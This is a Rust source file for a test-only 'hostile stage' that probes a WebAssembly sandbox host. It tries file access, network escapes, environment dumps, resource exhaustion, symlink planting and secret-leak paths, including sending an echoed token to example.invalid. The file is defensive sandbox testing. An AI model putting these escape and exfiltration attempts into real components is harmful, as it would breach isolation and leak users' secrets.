//! A hostile stage: each run tries one escape from the sandbox, named by config `attempt`,
//! with `target` (a path, URL, address, variable or secret name). When the attempt is
//! refused it fails with the error it got; when it succeeds it returns
//! `{ "escaped": true, ... }` — which the hostile suite (tests/hostile.rs) treats as a
//! sandbox failure. Test-only: built beside the built-in stages, never embedded.
//!
//! Attempts on the sandbox: `read`, `write`, `list`, `http`, `redirect`, `tcp`, `udp`,
//! `dns`, `env`, `env-dump`, `store-secret`, `loop`, `sleep`, `memory`, `output`,
//! `recursion`, `panic`; and `inputs`, which echoes the inputs it was given.
//!
//! Attempts on the host (what it does with what a stage leaves behind or sends): `symlink`
//! (plant a link `target` → `to`), `artifact` (declare `target` with `sha256`/`size`),
//! `sparse-artifact`, `files` / `fields` / `requests` (hold `n` WASI resources), `log-flood`
//! (`n` lines of `size` bytes), `progress-flood`, `fail` (a failure with `text` as message
//! and hint, or `size` bytes of each), `log` (`text` as a log line, on stdout and stderr
//! too), `json` (output `value`), `store` (`value` under `target`, `n` times with distinct
//! suffixes), `revoke` (store a value under `target`, then ask the host to revoke it at
//! `to`, `n` times with distinct URLs), `store-and-output` (store `value`, then put it in the output), `echo-secret`
//! (fetch `target`, which echoes the request's Authorization header, then leak what came
//! back through `mode`: log, output key, failure, refused URL).

#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]

use airlock_stage::{Artifact, Category, Output, Request, StageError, host, http};
use serde::{Deserialize, Serialize};
use serde_json::json;

/// What an attempt returns: any JSON, and the artifacts it declares (the hostile ones
/// among them are the point of `artifact` and `sparse-artifact`).
#[derive(Serialize)]
#[serde(transparent)]
pub struct Out {
    value: serde_json::Value,
    #[serde(skip)]
    artifacts: Vec<Artifact>,
}

impl Output for Out {
    fn artifacts(&self) -> Vec<Artifact> {
        self.artifacts.clone()
    }
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    attempt: String,
    #[serde(default)]
    target: String,
    #[serde(default)]
    to: String,
    #[serde(default)]
    n: u64,
    #[serde(default)]
    size: u64,
    #[serde(default)]
    text: String,
    #[serde(default)]
    value: serde_json::Value,
    #[serde(default)]
    sha256: String,
    #[serde(default)]
    mode: String,
}

#[cfg(target_arch = "wasm32")]
fn preopen(path: &str) -> Result<(wasip2::filesystem::types::Descriptor, String), StageError> {
    // The preopen whose guest path is the longest prefix of `path`.
    let mut best: Option<(wasip2::filesystem::types::Descriptor, String)> = None;
    for (d, p) in wasip2::filesystem::preopens::get_directories() {
        let prefix = p.trim_end_matches('/').to_string();
        let abs = format!("/{}", path.trim_start_matches('/'));
        if (abs == prefix || abs.starts_with(&format!("{prefix}/")) || prefix.is_empty())
            && best.as_ref().is_none_or(|(_, b)| prefix.len() > b.len())
        {
            best = Some((d, prefix));
        }
    }
    let (d, prefix) = best.ok_or_else(|| StageError::internal(format!("no preopen for {path}")))?;
    let abs = format!("/{}", path.trim_start_matches('/'));
    let rel = abs[prefix.len()..].trim_start_matches('/').to_string();
    Ok((d, rel))
}

#[cfg(not(target_arch = "wasm32"))]
fn host_only(what: &str) -> Result<serde_json::Value, StageError> {
    Err(StageError::internal(format!(
        "{what} runs only as a component"
    )))
}

fn refused(what: &str, e: impl std::fmt::Display) -> StageError {
    StageError::new(Category::Capability, format!("{what} refused: {e}"))
}

fn escaped(detail: serde_json::Value) -> Result<serde_json::Value, StageError> {
    Ok(json!({ "escaped": true, "detail": detail }))
}

#[inline(never)]
fn recurse(n: u64) -> u64 {
    if n == u64::MAX {
        return 0;
    }
    std::hint::black_box(recurse(std::hint::black_box(n + 1))) + 1
}

/// The stage function.
pub fn run(req: &Request) -> Result<Out, StageError> {
    let value = attempt(req)?;
    // `artifact` and `sparse-artifact` list what they declare under `artifacts`.
    let artifacts = value
        .get("artifacts")
        .and_then(|a| serde_json::from_value(a.clone()).ok())
        .unwrap_or_default();
    Ok(Out { value, artifacts })
}

/// One attempt: its output JSON.
fn attempt(req: &Request) -> Result<serde_json::Value, StageError> {
    let c: Config = req.config()?;
    let t = c.target.as_str();
    match c.attempt.as_str() {
        "read" => match std::fs::read(t) {
            Ok(b) => escaped(json!({ "read": t, "bytes": b.len() })),
            Err(e) => Err(StageError::io(t, &e)),
        },
        "write" => match std::fs::write(t, b"hostile") {
            Ok(()) => escaped(json!({ "wrote": t })),
            Err(e) => Err(StageError::io(t, &e)),
        },
        "list" => match std::fs::read_dir(t) {
            Ok(rd) => escaped(json!({ "listed": t, "entries": rd.count() })),
            Err(e) => Err(StageError::io(t, &e)),
        },
        "http" => {
            let r = http::send(&http::Request::get(t), &mut |_, _| {})?;
            escaped(json!({ "url": t, "status": r.status }))
        }
        "redirect" => {
            let r = http::send(&http::Request::get(t), &mut |_, _| {})?;
            match r.header("location") {
                Some(loc) if (300..400).contains(&r.status) => {
                    host::info(&format!("following the redirect to {loc}"));
                    let r2 = http::send(&http::Request::get(loc), &mut |_, _| {})?;
                    escaped(json!({ "url": loc, "status": r2.status }))
                }
                _ => Err(StageError::internal(format!(
                    "{t} did not redirect (status {})",
                    r.status
                ))),
            }
        }
        "tcp" => match std::net::TcpStream::connect(t) {
            Ok(_) => escaped(json!({ "tcp": t })),
            Err(e) => Err(refused(&format!("tcp connect to {t}"), e)),
        },
        "udp" => match std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| s.send_to(b"x", t)) {
            Ok(_) => escaped(json!({ "udp": t })),
            Err(e) => Err(refused(&format!("udp send to {t}"), e)),
        },
        "dns" => {
            use std::net::ToSocketAddrs;
            match (t, 443).to_socket_addrs() {
                Ok(a) => {
                    escaped(json!({ "resolved": a.map(|x| x.to_string()).collect::<Vec<_>>() }))
                }
                Err(e) => Err(refused(&format!("name lookup of {t}"), e)),
            }
        }
        "env" => match std::env::var(t) {
            Ok(v) => escaped(json!({ "env": t, "len": v.len() })),
            Err(e) => Err(refused(&format!("environment variable {t}"), e)),
        },
        // Everything the stage can see of its environment (the suite checks no secret is in it).
        "env-dump" => Ok(json!({ "env": std::env::vars().collect::<Vec<_>>() })),
        "store-secret" => {
            host::store_secret(t, "hostile-value")?;
            escaped(json!({ "stored": t }))
        }
        "loop" => {
            let mut x = 0u64;
            loop {
                x = std::hint::black_box(x.wrapping_add(1));
            }
        }
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_secs(3600));
            escaped(json!({ "slept": true }))
        }
        "memory" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "output" => Ok(json!({ "big": "x".repeat(4 << 20) })),
        "recursion" => escaped(json!({ "depth": recurse(0) })),
        "panic" => panic!("hostile stage panics on purpose"),
        "symlink" => {
            #[cfg(target_arch = "wasm32")]
            {
                let (dir, rel) = preopen(t)?;
                dir.symlink_at(&c.to, &rel)
                    .map_err(|e| refused(&format!("symlink {t} -> {}", c.to), e))?;
                Ok(json!({ "planted": t, "to": c.to }))
            }
            #[cfg(not(target_arch = "wasm32"))]
            host_only("symlink")
        }
        // Asks the host for the mode of each path in `value` (a list of strings): whatever
        // the host answers is the output, so the test sees what leaked.
        "file-mode" => {
            let paths: Vec<String> = serde_json::from_value(c.value.clone()).unwrap_or_default();
            let modes: Vec<serde_json::Value> = paths
                .iter()
                .map(|p| json!([p, airlock_stage::host::file_mode(p)]))
                .collect();
            Ok(json!({ "modes": modes }))
        }
        "artifact" => Ok(json!({
            "artifacts": [{ "path": t, "sha256": c.sha256, "size": c.size }]
        })),
        "sparse-artifact" => {
            let f = std::fs::File::create(t).map_err(|e| StageError::io(t, &e))?;
            f.set_len(c.size).map_err(|e| StageError::io(t, &e))?;
            Ok(json!({
                "artifacts": [{ "path": t, "sha256": "0".repeat(64), "size": c.size }]
            }))
        }
        "files" => {
            let mut held = Vec::new();
            for i in 0..c.n {
                match std::fs::File::open(t) {
                    Ok(f) => held.push(f),
                    Err(e) => return Err(refused(&format!("open #{i} of {t}"), e)),
                }
            }
            escaped(json!({ "open_files": held.len() }))
        }
        "fields" => {
            #[cfg(target_arch = "wasm32")]
            {
                use wasip2::http::types::Fields;
                let mut held = Vec::new();
                let value = vec![b'v'; c.size as usize];
                for i in 0..c.n {
                    let f = Fields::new();
                    for k in 0..16 {
                        if let Err(e) = f.append(&format!("x-h{k}"), &value) {
                            return Err(refused(
                                &format!("fields #{i} header {k}"),
                                format!("{e:?}"),
                            ));
                        }
                    }
                    held.push(f);
                }
                escaped(json!({ "fields": held.len() }))
            }
            #[cfg(not(target_arch = "wasm32"))]
            host_only("fields")
        }
        "requests" => {
            #[cfg(target_arch = "wasm32")]
            {
                use wasip2::http::outgoing_handler::handle;
                use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
                let (_, rest) = t.split_once("://").unwrap_or(("http", t));
                let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
                let mut held = Vec::new();
                for i in 0..c.n {
                    let req = OutgoingRequest::new(Fields::new());
                    let _ = req.set_scheme(Some(&Scheme::Http));
                    let _ = req.set_authority(Some(authority));
                    let _ = req.set_path_with_query(Some(&format!("/{path}")));
                    match handle(req, None) {
                        Ok(f) => held.push(f),
                        Err(e) => return Err(refused(&format!("request #{i}"), format!("{e:?}"))),
                    }
                }
                // Wait for every answer: the host refuses those past its in-flight bound.
                let mut refusals = 0;
                for f in &held {
                    f.subscribe().block();
                    if !matches!(f.get(), Some(Ok(Ok(_)))) {
                        refusals += 1;
                    }
                }
                if refusals > 0 {
                    return Err(StageError::new(
                        Category::Capability,
                        format!("{refusals} of {} concurrent requests refused", c.n),
                    ));
                }
                escaped(json!({ "requests": held.len() }))
            }
            #[cfg(not(target_arch = "wasm32"))]
            host_only("requests")
        }
        "log-flood" => {
            let line = "l".repeat(c.size as usize);
            for _ in 0..c.n {
                host::info(&line);
            }
            Ok(json!({ "logged": c.n }))
        }
        "progress-flood" => {
            let msg = "p".repeat(c.size as usize);
            for i in 0..c.n {
                host::progress(i, Some(c.n + 1), &msg);
            }
            Ok(json!({ "progress": c.n }))
        }
        "fail" => {
            let text = if c.size > 0 {
                "f".repeat(c.size as usize)
            } else {
                c.text.clone()
            };
            Err(StageError::validation(text.clone()).with_hint(text))
        }
        "log" => {
            host::info(&c.text);
            println!("{}", c.text);
            eprintln!("{}", c.text);
            Ok(json!({ "logged": true }))
        }
        "json" => Ok(c.value.clone()),
        "store" => {
            let value = c.value.as_str().unwrap_or("").to_string();
            let n = c.n.max(1);
            for i in 0..n {
                let v = if n == 1 {
                    value.clone()
                } else {
                    format!("{value}-{i:06}")
                };
                host::store_secret(t, &v)?;
            }
            escaped(json!({ "stored": n }))
        }
        // Store `value` under `target`, then ask the host to revoke it at `to` (`n` distinct
        // URLs when n > 1): the host must refuse an ungranted origin and bound the rest.
        "revoke" => {
            host::store_secret(t, "revoke-me-secret-value")?;
            let n = c.n.max(1);
            for i in 0..n {
                // The URL carries the value too: the host must never show it.
                let url = if n == 1 {
                    format!("{}?t=revoke-me-secret-value", c.to)
                } else {
                    format!("{}?{i}&t=revoke-me-secret-value", c.to)
                };
                host::revoke_secret_at(t, &url)?;
            }
            Ok(json!({ "registered": n }))
        }
        "store-and-output" => {
            let value = c.value.as_str().unwrap_or("").to_string();
            host::store_secret(t, &value)?;
            Ok(json!({ value.clone(): 1, "value": value }))
        }
        "echo-secret" => {
            let r = http::send(&http::Request::get(t), &mut |_, _| {})?;
            let echoed = r.text();
            match c.mode.as_str() {
                "log" => {
                    host::info(&format!("the server saw: {echoed}"));
                    println!("stdout: {echoed}");
                    Ok(json!({ "logged": true }))
                }
                "output" => Ok(json!({ echoed.clone(): echoed, "list": [echoed] })),
                "fail" => Err(StageError::validation(format!("server said {echoed}"))
                    .with_hint(format!("hint {echoed}"))),
                "url" => {
                    let token = echoed.rsplit(' ').next().unwrap_or("").to_string();
                    let url = format!("http://example.invalid/{token}/x");
                    http::send(&http::Request::get(&url), &mut |_, _| {})?;
                    escaped(json!({ "url": url }))
                }
                "progress" => {
                    host::progress(1, Some(2), &echoed);
                    Ok(json!({ "progress": true }))
                }
                other => Err(StageError::config(format!("unknown mode {other}"))),
            }
        }
        // Not an escape: echoes the inputs the host passed (on-failure stages get `failure`).
        "inputs" => Ok(json!({ "inputs": req.inputs })),
        other => Err(StageError::config(format!("unknown attempt {other}"))),
    }
}

airlock_stage::export_stage!(run);
